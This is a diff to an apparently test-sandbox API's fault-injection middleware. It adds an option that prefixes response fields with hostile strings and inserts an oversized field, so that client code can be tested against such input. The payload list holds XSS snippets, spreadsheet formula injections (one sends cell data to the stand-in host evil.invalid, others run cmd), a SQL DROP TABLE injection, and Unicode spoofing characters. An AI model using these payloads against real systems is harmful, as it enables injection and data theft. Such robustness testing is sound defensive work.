@@ -1,10 +1,12 @@
 """Fault injection. Request-level faults (429s, 5xx, dropped connections, latency, rate limits) are
 an ASGI middleware in front of every data request; page-level faults (truncated JSON, a missing
-required key) are applied where list pages are rendered (``page_response``)."""
+required key) are applied where list pages are rendered (``page_response``). Hostile strings
+(``hostile_strings``) rewrite the JSON answers of data requests on their way out."""
 
 from __future__ import annotations
 
 import asyncio
+import hashlib
 import json
 import math
 import random
@@ -14,12 +16,83 @@ from starlette.datastructures import Headers
 from starlette.types import ASGIApp, Receive, Scope, Send
 
 from incydr_sandbox.auth import bearer_token
+from incydr_sandbox.rand import parse_indexed_id
 from incydr_sandbox.state import SandboxState
 
 KSAT_PREFIXES = ("/v1/users", "/v1/groups")
 # The key removed from the first item of a page by missing_key_every, per kind of page.
 REQUIRED_KEYS = {"sessions": "lastUpdated", "alerts": "createdAt", "actors": "actorId", "rules": "id",
                  "events": "@timestamp", "ksat_users": "id", "ksat_groups": "id"}
+
+
+# --- hostile strings ------------------------------------------------------------------------------
+# With hostile_strings on, one in three values of these keys (chosen by a hash of the value, so an
+# actor's name is rewritten the same way in sessions, alerts and actor lookups) gets one of these
+# prefixes, and the exfiltrationSummary of every session with index = 420 (mod 1000) is 1 MiB long.
+HOSTILE_PAYLOADS = (
+    "<script>alert(1)</script>",
+    '=HYPERLINK("http://evil.invalid/?d="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Robert'); DROP TABLE code42_session;--",
+    "quotes \" ' ` and \\ backslash -- /* */ ;",
+    "ctl \x00\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\t\r\n\u2028\u2029 end",
+    "\u202eexe.pdf\u202c <img src=x onerror=alert(2)> &amp; &lt;b&gt; \U0001f600 e\u0301",
+)
+HOSTILE_KEYS = frozenset({"actorName", "actor", "name", "firstName", "lastName", "department", "title",
+                          "contextSummary", "exfiltrationSummary", "ruleName", "description", "content"})
+BIG_FIELD_CHARS = 1 << 20
+BIG_SESSION_EVERY, BIG_SESSION_AT = 1000, 420
+_BIG_FIELD = ("".join(HOSTILE_PAYLOADS) * (BIG_FIELD_CHARS // 200 + 1))[:BIG_FIELD_CHARS]
+
+
+def hostile_value(value: str) -> str:
+    h = int.from_bytes(hashlib.sha256(value.encode()).digest()[:4], "big")
+    return value if h % 3 else f"{HOSTILE_PAYLOADS[h // 3 % len(HOSTILE_PAYLOADS)]} {value}"
+
+
+def make_hostile(data):
+    """``data`` (a parsed JSON answer) with the hostile strings in."""
+    if isinstance(data, list):
+        return [make_hostile(v) for v in data]
+    if not isinstance(data, dict):
+        return data
+    out = {k: hostile_value(v) if k in HOSTILE_KEYS and isinstance(v, str) else make_hostile(v)
+           for k, v in data.items()}
+    parsed = parse_indexed_id(str(data.get("sessionId", ""))) if "exfiltrationSummary" in data else None
+    if parsed is not None and parsed[0] % BIG_SESSION_EVERY == BIG_SESSION_AT:
+        out["exfiltrationSummary"] = _BIG_FIELD
+    return out
+
+
+def _hostile_sender(send: Send) -> Send:
+    """Buffers the answer; a 200 JSON body goes out rewritten by ``make_hostile``."""
+    start: dict = {}
+    chunks: list[bytes] = []
+
+    async def hostile_send(message) -> None:
+        if message["type"] == "http.response.start":
+            start.update(message)
+            return
+        if message["type"] != "http.response.body":
+            await send(message)
+            return
+        chunks.append(message.get("body", b""))
+        if message.get("more_body"):
+            return
+        body, headers = b"".join(chunks), list(start.get("headers", []))
+        if start.get("status") == 200 and b"json" in dict(headers).get(b"content-type", b""):
+            try:
+                body = json.dumps(make_hostile(json.loads(body))).encode()
+            except ValueError:
+                pass  # a truncated page (malformed_every) stays truncated
+            headers = [(k, v) for k, v in headers if k.lower() != b"content-length"]
+            headers.append((b"content-length", str(len(body)).encode()))
+        await send({**start, "headers": headers})
+        await send({"type": "http.response.body", "body": body})
+
+    return hostile_send
 
 
 def is_data_path(path: str) -> bool:
@@ -79,7 +152,7 @@ class FaultMiddleware:
             if roll.random() < f.fail_5xx_rate:
                 status = roll.choice((503, 503, 500))
         if status is None:
-            await self.app(scope, receive, send)
+            await self.app(scope, receive, _hostile_sender(send) if f.hostile_strings else send)
             return
         headers = [(b"content-type", b"application/problem+json")]
         if retry_after is not None:
